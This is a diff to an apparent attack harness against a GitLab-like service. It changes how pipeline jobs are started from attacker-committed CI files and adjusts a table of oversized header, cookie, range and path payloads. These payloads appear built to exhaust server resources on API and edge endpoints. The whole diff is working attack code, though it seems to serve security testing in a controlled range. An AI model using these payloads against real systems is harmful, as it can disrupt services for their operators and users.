@@ -4,6 +4,7 @@ import base64
 import gzip
 import hashlib
 import io
+import secrets
 import struct
 import zlib
 from collections import Counter
@@ -18,8 +19,6 @@ import orjson
 
 from scripts.abuse.environment import AttackTarget, read_all, repeat, session
 from scripts.harness.contents import archive, commit_values, multipart
-
-_branches = count()
 
 
 @attrs.frozen
@@ -83,7 +82,7 @@ class Job:
 async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: str) -> Job:
     """Start a pipeline with that CI file; return its only job, running."""
     api, project = f"{target.api_url}/api/v4", target.project(target.mine)
-    branch = f"job-{next(_branches)}"
+    branch = f"job-{secrets.token_hex(4)}"  # other attackers have made some before
     commit = commit_values(branch, {".gitlab-ci.yml": file}, start_branch="main")
     async with http.post(f"{project}/repository/commits", json=commit, headers=target.as_attacker) as answer:
         answer.raise_for_status()
@@ -356,9 +355,15 @@ INPUTS: dict[str, Input] = {
         1_900, lambda target, n: _api(target, "/projects?") + "&".join(f"a{i % 10}=" for i in range(n))
     ),
     "cookies": _get(
-        1_900,
+        1_600,
         lambda target, _: f"{target.api_url}/-/sign_in",
         lambda n: {"Cookie": "; ".join(f"a{i % 10}=" for i in range(n))},
+    ),
+    "content-type": _simple(
+        1_900,
+        lambda target, n: Request(
+            "POST", _api(target, "/runners"), b"{}", {"Content-Type": "application/json" + ';a="' * n}
+        ),
     ),
     "tree-path": _get(
         3_000, lambda target, n: f"{target.project(target.public)}/repository/tree?path={'a/' * n}a"
@@ -428,11 +433,11 @@ INPUTS: dict[str, Input] = {
         400_000, "/remote_mirrors", lambda n: {"url": "https://" + "a:" * (n // 2) + "@example.org/a.git"}
     ),
     "edge-ranges": _get(
-        3_000, _edge_file, lambda n: {"Range": "bytes=" + ",".join(f"{i * 2}-{i * 2}" for i in range(n // 2))}
+        1_600, _edge_file, lambda n: {"Range": "bytes=" + ",".join(f"{i * 2}-{i * 2}" for i in range(n // 2))}
     ),
     "edge-tags": _get(3_000, _edge_file, lambda n: {"If-None-Match": '"a' * n}),
-    "edge-directives": _get(3_000, _edge_file, lambda n: {"Cache-Control": 'a="' * n}),
-    "edge-codings": _get(3_000, _edge_file, lambda n: {"Accept-Encoding": "a;q=0," * (n // 2)}),
+    "edge-directives": _get(2_700, _edge_file, lambda n: {"Cache-Control": 'a="' * n}),
+    "edge-codings": _get(2_700, _edge_file, lambda n: {"Accept-Encoding": "a;q=0," * (n // 2)}),
     "edge-path": _get(3_000, lambda target, n: f"{target.edge_url}/a{'/-/raw' * (n // 6)}/main/a"),
     "edge-query": _get(3_000, lambda target, n: f"{_edge_file(target)}?{'inline=true&' * (n // 12)}"),
 }
